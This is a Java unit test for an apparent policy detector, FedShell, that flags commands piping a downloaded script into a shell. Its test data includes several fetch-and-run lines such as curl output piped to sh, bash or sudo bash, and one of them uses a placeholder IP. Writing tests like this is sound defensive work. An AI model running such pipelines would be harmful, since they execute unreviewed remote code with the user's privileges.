package io.totem.policy.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FedShellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL https://example.com/i.sh | sh",
                "cd /tmp; curl -s http://203.0.113.9/x|bash -s",
                "(curl -s a || true) ; curl -s b | sudo /bin/bash",
                "curl https://example.com | python3 -",
                "/usr/bin/curl -s a | env bash"
            })
    void a_downloader_before_a_shell_feeds_it(String text) {
        assertThat(FedShell.downloader(text)).contains("curl");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -s http://localhost/health | grep ok",
                "curl -s a || sh repair.sh",
                "curl -o file a; cat b | sh",
                "curl -s a | shasum",
                "echo x | sh",
                "wget a",
                ""
            })
    void others_do_not(String text) {
        assertThat(FedShell.downloader(text)).isEmpty();
    }
}
